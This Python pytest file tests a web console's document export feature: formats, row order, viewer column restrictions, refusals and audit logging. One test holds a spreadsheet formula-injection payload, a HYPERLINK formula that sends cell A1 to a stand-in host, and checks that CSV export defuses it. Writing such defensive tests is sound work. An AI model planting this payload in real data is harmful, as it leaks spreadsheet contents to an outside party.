"""Listings as files: what is in them, for whom, and what is left of it in the log."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import httpx
import pyarrow as pa
import pytest
from pyarrow import parquet as pq

from scorelens_console.core.exports import KINDS, MOST_RANKED, order_of
from scorelens_reading.tables.columns import FORMS, RECORD
from scorelens_store.contract import Sort
from tests.scorelens_console.records import TAGS, record, records
from tests.scorelens_console.running import Running, running

RECORDS = records()
HIDDEN = {
    "documents": {"purpose", "because", "flags", "labels", "trace_id"},
    "scores": {"purpose", "margin", "threshold", "explanation", "intercept", "remainder", "remainder_terms"},
}
"""Columns that viewers have not."""


def rows(answer: httpx.Response) -> list[dict[str, Any]]:
    """Return the rows of a file."""
    assert answer.status_code == 200, answer.text
    kind = answer.headers["content-type"]
    if kind.startswith("text/csv"):
        return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    if kind == "application/x-ndjson":
        return [json.loads(line) for line in answer.text.split("\n") if line]
    found: list[dict[str, Any]] = pq.read_table(io.BytesIO(answer.content)).to_pylist()
    return found


@pytest.mark.parametrize("kind", KINDS)
def test_a_listing_is_exported_as_it_is_shown(viewer: httpx.Client, kind: str) -> None:
    """Its documents in its order, with its filters, and a name that tells what it is."""
    listing = {"q": "kind:tweet OR kind:chat", "source": "twitter", "sort": "document.audience"}
    answer = viewer.get("/documents/export", params={**listing, "form": kind})
    name = re.fullmatch(
        r'attachment; filename="scorelens-documents-\d{8}T\d{6}\.(\w+)"', answer.headers["content-disposition"]
    )
    assert name
    assert name[1] == kind
    found = rows(answer)
    expected = [
        one
        for one in RECORDS[::-1]
        if one["document"]["kind"] in ("tweet", "chat") and one["document"]["source"] == "twitter"
    ]
    assert [row["document_id"] for row in found] == [one["document"]["id"] for one in expected]
    assert [row["text"] for row in found] == [one["document"]["text"] for one in expected]
    for row, one in zip(found, expected, strict=True):
        for tag in TAGS:
            assert float(row[f"score.{tag}"]) == one["score"][tag]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("table", FORMS)
def test_every_table_comes_as_every_kind_of_file(scientist: httpx.Client, kind: str, table: str) -> None:
    """With the columns of the SDK's tables, and all rows."""
    found = rows(scientist.get("/documents/export", params={"form": kind, "table": table}))
    wide = [f"score.{tag}" for tag in sorted(TAGS)] if table == "documents" else []
    assert list(found[0]) == [*RECORD[table], *wide]  # type: ignore[index]
    assert len(found) == {"documents": 60, "scores": 240, "terms": 1200}[table]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("table", HIDDEN)
def test_a_viewer_gets_what_a_viewer_may_see(viewer: httpx.Client, kind: str, table: str) -> None:
    """Columns about how scores came about are not there at all."""
    found = rows(viewer.get("/documents/export", params={"form": kind, "table": table}))
    every = set(RECORD[table])  # type: ignore[index]
    assert {name for name in found[0] if not name.startswith("score.")} == every - HIDDEN[table]
    assert len(found) == {"documents": 60, "scores": 240}[table]


def test_terms_are_for_data_scientists(viewer: httpx.Client) -> None:
    """Asking for them is refused, and they are not offered."""
    answer = viewer.get("/documents/export", params={"table": "terms"})
    assert answer.status_code == 403
    assert "data scientist" in answer.text
    assert "table=terms" not in viewer.get("/documents").text


def test_the_listing_offers_its_files(scientist: httpx.Client) -> None:
    """With the listing's own query and order, and each link leads to a file."""
    page = scientist.get("/documents", params={"q": "refund", "sort": "relevance"}).text
    links = re.findall(r'href="(/documents/export[^"]*)" download', page)
    assert len(links) == len(KINDS) * len(FORMS)
    for link in links:
        address = link.replace("&amp;", "&")
        assert "q=refund&sort=relevance&form=" in address
        assert rows(scientist.get(address))


@pytest.mark.parametrize("query", ["form=xlsx", "table=nonsense", "period=1y", "sort=nonsense", "q=(", "since=then"])
def test_what_cannot_be_is_refused_as_a_page(viewer: httpx.Client, query: str) -> None:
    """Before a file begins."""
    answer = viewer.get(f"/documents/export?{query}")
    assert answer.status_code == 400
    assert answer.headers["content-type"].startswith("text/html")


def test_an_export_is_in_the_audit_log(console: Running, viewer: httpx.Client) -> None:
    """What of which listing, before its first byte."""
    log = console.folder / "audit.jsonl"
    before = len(log.read_text().splitlines())
    viewer.get("/documents/export", params={"q": "kind:tweet", "form": "jsonl"})
    line = json.loads(log.read_text().splitlines()[before])
    assert (line["action"], line["form"], line["table"]) == ("export", "jsonl", "documents")
    assert line["address"] == "/documents/export?q=kind%3Atweet&form=jsonl"
    assert line["documents"] >= 1


def test_foreign_texts_are_no_formulas_in_a_spreadsheet(tmp_path: Any) -> None:
    """Whoever writes documents does not get into the spreadsheet of whoever reads them."""
    text = '=HYPERLINK("http://a.example/?"&A1;"refund")'
    stored = record(1, document={"id": "-1", "kind": "chat", "title": "@SUM(1)", "text": text, "author": "+a"})
    with running(tmp_path, [stored]) as console:
        person = console.person()
        (row,) = rows(person.get("/documents/export?form=csv"))
        assert (row["text"], row["title"], row["author"], row["document_id"]) == (f"'{text}", "'@SUM(1)", "'+a", "'-1")
        (row,) = rows(person.get("/documents/export?form=jsonl"))
        assert row["text"] == text


def test_nothing_found_is_a_file_without_rows(viewer: httpx.Client) -> None:
    """It has its columns all the same."""
    assert rows(viewer.get("/documents/export?q=id:none&form=csv")) == []
    answer = viewer.get("/documents/export?q=id:none&form=parquet")
    table = pq.read_table(io.BytesIO(answer.content))
    assert (table.num_rows, table.schema.field("text").type) == (0, pa.string())


def test_very_many_by_relevance_go_by_time() -> None:
    """The order of everything by relevance would have to be held."""
    assert order_of(Sort(), MOST_RANKED) == Sort()
    assert order_of(Sort(), MOST_RANKED + 1) == Sort("@timestamp")
    assert order_of(Sort("kind"), 10**9) == Sort("kind")
